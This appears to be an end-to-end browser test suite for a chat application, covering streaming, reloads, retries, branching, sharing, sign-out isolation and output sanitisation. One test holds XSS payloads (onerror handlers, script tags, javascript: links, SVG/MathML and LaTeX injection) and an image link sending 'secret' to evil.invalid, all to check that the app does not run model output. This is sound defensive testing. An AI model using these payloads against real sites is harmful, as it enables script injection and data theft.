// What one person does with one chat.
import { flat, openPage, send, Server, sessionOf, shownReply, textOf, until } from '../browser.mjs';
import { browser, choose, fresh, grown, isOver, REFUSED, same, server, vendor } from '../world.mjs';

const messages = async (session) => (await server.json(`/v1/sessions/${session}/messages?limit=200`)).items;

export const cases = {
  async a_reply_of_50000_chunks_is_shown_whole() {
    const page = await fresh();
    await send(page, '/pace 0ms\n/long 50000');
    await same(page);
  },

  async a_message_is_typed_and_its_reply_streams_in() {
    const page = await fresh();
    await send(page, '/long 60');
    await grown(page, 20);
    await same(page);
  },

  async a_reload_at_10_50_and_99_percent_of_a_reply_loses_nothing() {
    const page = await fresh();
    const text = Array.from({ length: 400 }, (_, at) => `word${at}`).join(' ');
    await choose(page, 'openai/echo');
    vendor.held[text] = 0;
    const session = await send(page, text);
    for (const part of [0.1, 0.5, 0.99]) {
      vendor.held[text] = Math.ceil(part * text.length);
      // The provider speaks in pieces, the last of which may be held back.
      const seen = vendor.held[text] - vendor.size - 1;
      await grown(page, seen);
      await page.reload();
      // What was there before the reload is there again before anything new has come.
      await grown(page, seen);
      if (await isOver(session)) {
        throw new Error(`the reply was over at ${part * 100} %`);
      }
    }
    delete vendor.held[text];
    if ((await same(page)) !== text) {
      throw new Error('the server has another text');
    }
  },

  async of_compared_models_one_fails_and_is_retried() {
    const page = await fresh();
    await page.getByRole('button', { name: 'Compare' }).click();
    await page.getByRole('button', { name: /^Model 2/ }).click();
    await page.getByPlaceholder('provider/model').fill('openai/flaky');
    await page.getByRole('button', { name: 'Use' }).click();
    vendor.fail = true;
    const session = await send(page, '/long 40');
    const failed = page.locator('.card.failed');
    await failed.getByRole('button', { name: 'Try again' }).waitFor();
    await page.locator('.card.completed').waitFor();
    vendor.fail = false;
    await failed.getByRole('button', { name: 'Try again' }).click();
    await until('both are done', async () => (await page.locator('.card.completed').count()) === 2);
    const stored = (await messages(session)).filter((each) => each.role === 'assistant').reverse().map(textOf);
    await until('both texts are those of the server', async () => flat(await shownReply(page)) === flat(stored.join('\n')));
  },

  async a_second_try_is_told_calmly_and_also_after_a_reload() {
    const page = await fresh();
    const session = await send(page, '/pace 25ms\n/error 529 at 12\n/long 3000');
    await page.getByText(/^Second try: the provider was overloaded/).waitFor();
    await page.reload();
    await page.getByText(/^Second try: the provider was overloaded/).waitFor();
    // Another browser, which has nothing of it in its cache.
    const other = await openPage(browser, `${server.url}/chat/${session}`);
    await other.getByText(/^Second try: the provider was overloaded/).waitFor();
    if (await isOver(session)) {
      throw new Error('the reply was over too early to show this');
    }
    await other.getByRole('button', { name: 'Stop the reply' }).click();
    await same(page, session);
    await same(other, session);
    // Once it is over, the server has it with the message; nothing is left in a new browser but that.
    const late = await openPage(browser, `${server.url}/chat/${session}`);
    await late.getByText(/^Second try: the provider was overloaded/).waitFor();
    await same(late, session);
  },

  async a_draft_is_kept_and_a_refused_message_is_sent_again() {
    const page = await fresh(server, { allow: [REFUSED] });
    const session = await send(page, 'Hello');
    await same(page);
    const box = page.getByRole('textbox', { name: 'Message', exact: true });
    await box.fill('not sent yet\nsecond line');
    await page.reload();
    await until('the draft is there', async () => (await box.inputValue()) === 'not sent yet\nsecond line');
    // The server says no, once.
    await page.route('**/turns', (route) =>
      route.fulfill({
        status: 400,
        contentType: 'application/problem+json',
        body: JSON.stringify({ type: 'x', title: 'No', status: 400, code: 'invalid_request', detail: 'Not today.', retryable: false }),
      }),
    );
    await box.press('Enter');
    await page.getByText('Not today.').waitFor();
    await page.unroute('**/turns');
    await page.getByRole('button', { name: 'Send again' }).click();
    await until('it is stored', async () =>
      (await messages(session)).filter((each) => each.role === 'user').length === 2);
    await same(page, session);
  },

  async messages_are_edited_and_answered_again_as_branches() {
    const page = await fresh();
    const session = await send(page, '/echo first');
    await same(page);
    await page.getByRole('button', { name: 'Edit the message' }).click();
    await page.getByRole('textbox', { name: 'Edit the message' }).fill('/echo second');
    await page.getByRole('textbox', { name: 'Edit the message' }).press('Enter');
    await until('the second is answered', async () => /second/.test(await shownReply(page)));
    await same(page, session);
    await page.getByRole('button', { name: 'The one before' }).first().click();
    await until('the first is shown', async () => /first/.test(await shownReply(page)));
    await page.getByRole('button', { name: 'Answer again' }).click();
    await page.getByText('2/2').first().waitFor();
    await until('three replies', async () =>
      (await messages(session)).filter((each) => each.role === 'assistant' && each.status === 'complete').length === 3);
    await same(page, session);
  },

  async a_question_of_the_model_is_answered_with_a_button() {
    const session = await server.json('/v1/sessions', { method: 'POST', body: '{}' });
    await server.json(`/v1/sessions/${session.id}/turns`, {
      method: 'POST',
      body: JSON.stringify({
        text: '/tool ask_user {"question":"Tea or coffee?","choices":["tea","coffee"]}',
        tools: ['ask_user'],
      }),
    });
    // An old page of a server that has been updated since: what it fetches late is not there any more.
    const page = await openPage(browser, undefined, { allow: [REFUSED] });
    await page.route('**/assets/Question*', (route) => route.fulfill({ status: 404 }));
    await page.goto(`${server.url}/chat/${session.id}`);
    await page.getByText('This part of the page could not be loaded.').waitFor();
    await page.unroute('**/assets/Question*');
    await page.getByRole('button', { name: 'Reload', exact: true }).click();
    await page.locator('.question').getByText('Tea or coffee?').waitFor();
    await page.getByRole('button', { name: 'coffee', exact: true }).click();
    await same(page, session.id);
  },

  async a_form_of_the_model_is_filled_in_and_files_are_told_of() {
    const form = { type: 'object', required: ['seats'], properties: { seats: { type: 'integer', title: 'Seats' }, window: { type: 'boolean', title: 'By the window' } } };
    const file = await server.json('/v1/files?name=notes.txt', {
      method: 'POST',
      headers: { 'content-type': 'text/plain' },
      body: 'Two of us.',
    });
    const session = await server.json('/v1/sessions', { method: 'POST', body: '{}' });
    await server.json(`/v1/sessions/${session.id}/turns`, {
      method: 'POST',
      body: JSON.stringify({
        parts: [
          { type: 'text', text: `/tool ask_user ${JSON.stringify({ question: 'How many?', form })}` },
          { type: 'file', file: file.id },
        ],
        tools: ['ask_user'],
      }),
    });
    const page = await openPage(browser, `${server.url}/chat/${session.id}`);
    await page.getByRole('list', { name: 'Files' }).getByText('notes.txt').waitFor();
    await page.getByRole('spinbutton', { name: 'Seats' }).fill('2');
    await page.getByRole('checkbox', { name: 'By the window' }).check();
    await page.getByRole('button', { name: 'Answer', exact: true }).click();
    await same(page, session.id);
    const reply = (await messages(session.id)).find((each) => each.role === 'assistant');
    const said = JSON.stringify(reply.tools[0].output);
    if (said !== '{"seats":2,"window":true}') {
      throw new Error(`the model was told ${said}`);
    }
  },

  async sessions_are_renamed_found_deleted_and_brought_back() {
    const page = await fresh();
    const session = await send(page, '/echo zebra crossing in МОСКВА');
    await same(page);
    const row = page.locator('.session', { has: page.locator(`a[href="/chat/${session}"]`) });
    await row.hover();
    await row.getByRole('button').click();
    await page.getByRole('menuitem', { name: 'Rename' }).click();
    await page.getByRole('textbox', { name: 'Name of the chat' }).fill('Über Streifen');
    await page.keyboard.press('Enter');
    await row.getByText('Über Streifen').waitFor();
    await until('the name is stored', async () => (await server.json(`/v1/sessions/${session}`)).title === 'Über Streifen');
    for (const words of ['über str', 'ÜBER', 'москва', 'Zebra']) {
      await page.getByRole('searchbox').fill('nothing has these words');
      await page.getByText('Nothing found for').waitFor();
      await page.getByRole('searchbox').fill(words);
      await until(`${words} is found`, async () => (await page.locator('.session').count()) === 1);
    }
    await page.getByRole('searchbox').fill('');
    await row.hover();
    await row.getByRole('button').click();
    await page.getByRole('menuitem', { name: 'Delete' }).click();
    await page.getByRole('button', { name: 'Undo' }).click();
    await row.waitFor();
    await server.json(`/v1/sessions/${session}`);
    // A chat that is not there any more, or never was.
    page.allow.push(REFUSED);
    await page.goto(`${server.url}/chat/sess_${'0'.repeat(26)}`);
    await page.getByText('The chat that you opened is not there.').waitFor();
    await row.getByRole('link').click();
    await same(page, session);
    await page.getByRole('button', { name: 'New chat', exact: true }).click();
    await page.locator('.welcome').waitFor();
    if ((await page.getByText('The chat that you opened').count()) > 0) {
      throw new Error('it is still said that a chat is not there');
    }
  },

  async a_link_shows_the_same_stream_to_somebody_else_who_can_change_nothing() {
    const page = await fresh();
    const session = await send(page, '/pace 20ms\n/long 150');
    await grown(page, 50);
    await page.getByRole('button', { name: 'More', exact: true }).click();
    await page.getByRole('menuitem', { name: /Share/ }).click();
    await page.getByRole('button', { name: 'Make a link' }).click();
    const link = await page.getByRole('textbox', { name: 'The link' }).inputValue();
    const other = await openPage(browser, link);
    await grown(other, 100);
    if ((await other.getByRole('textbox').count()) > 0) {
      throw new Error('somebody else has a box to write in');
    }
    await same(other, session);
    await page.getByRole('button', { name: 'Revoke' }).click();
    await until('it is revoked', async () => (await server.json(`/v1/sessions/${session}/shares`)).items.length === 0);
    const late = await openPage(browser, link, { allow: [REFUSED] });
    await late.getByText('This link cannot be opened').waitFor();
    await page.getByRole('button', { name: 'Close', exact: true }).click();
    await same(page, session);
  },

  async nothing_of_the_one_before_is_shown_after_a_sign_out() {
    const own = await new Server({
      PERDURE_API_KEYS: 'acme/ann:key-of-ann-0123456789,acme/bob:key-of-bob-0123456789',
    }).start();
    try {
      const page = await openPage(browser, own.url, { allow: [REFUSED] });
      const signIn = async (key) => {
        await page.getByPlaceholder('API key or token').fill(key);
        await page.getByRole('button', { name: 'Sign in' }).click();
        await page.getByRole('textbox', { name: 'Message', exact: true }).waitFor();
      };
      await signIn('key-of-ann-0123456789');
      const session = await send(page, '/echo a secret of ann');
      await same(page, session, own, { authorization: 'Bearer key-of-ann-0123456789' });
      await page.getByRole('button', { name: 'Settings' }).click();
      await page.getByRole('menuitem', { name: 'Sign out' }).click();
      await page.getByPlaceholder('API key or token').waitFor();
      const left = await stored(page);
      if (/secret of ann/.test(left)) {
        throw new Error(`left behind: ${left}`);
      }
      await signIn('key-of-bob-0123456789');
      await page.getByText('No chats yet.').waitFor();
      if (/secret of ann/.test(await page.locator('body').innerText())) {
        throw new Error('bob sees what ann wrote');
      }
      const his = await send(page, '/echo of bob');
      await same(page, his, own, { authorization: 'Bearer key-of-bob-0123456789' });
    } finally {
      await own.close();
    }
  },

  async what_a_model_writes_cannot_act() {
    const page = await fresh();
    const attacks = [
      '<img src=x onerror="document.title=1">',
      '<script>document.title=1</script>',
      '[x](javascript:document.title=1)',
      '![x](https://evil.invalid/?q=secret)',
      '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
      '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
      '$\\href{javascript:alert(1)}{x}$ and $\\text{<img src=x onerror=alert(1)>}$',
    ];
    const asked = [];
    page.on('request', (request) => asked.push(request.url()));
    await choose(page, 'openai/echo');
    vendor.cites[attacks.join('\n\n')] = [
      { url: 'javascript:document.title=1', title: 'Click' },
      { url: 'https://good.example/a', title: attacks[0] },
    ];
    await send(page, attacks.join('\n\n'));
    await server.replyText(sessionOf(page));
    await page.locator('.reply math').first().waitFor();
    const bad = await page.locator('.reply').locator('img, script, iframe, svg a, [onerror], a[href^="javascript"]').count();
    if (bad > 0 || asked.some((url) => url.includes('evil'))) {
      throw new Error('something of it is alive');
    }
    const sources = page.locator('.sources li');
    for (const shown of ['as it came', 'as it is stored']) {
      await sources.first().waitFor();
      const link = sources.locator('a');
      const said = [await sources.count(), await link.locator('bdi').innerText(), await link.getAttribute('href'), await link.getAttribute('rel')];
      if (JSON.stringify(said) !== JSON.stringify([1, attacks[0], 'https://good.example/a', 'noopener noreferrer nofollow'])) {
        throw new Error(`the sources ${shown} are ${said.join(', ')}`);
      }
      await page.reload();
    }
  },
};

/** Everything that the page has stored in the browser. */
const stored = (page) =>
  page.evaluate(async () => {
    const stores = [];
    for (const { name } of await indexedDB.databases()) {
      const db = await new Promise((resolve, reject) => {
        const open = indexedDB.open(name);
        open.onsuccess = () => resolve(open.result);
        open.onerror = () => reject(open.error);
      });
      for (const store of db.objectStoreNames) {
        stores.push(
          await new Promise((resolve, reject) => {
            const all = db.transaction(store).objectStore(store).getAll();
            all.onsuccess = () => resolve(JSON.stringify(all.result));
            all.onerror = () => reject(all.error);
          }),
        );
      }
      db.close();
    }
    return stores.join() + JSON.stringify({ ...localStorage });
  });
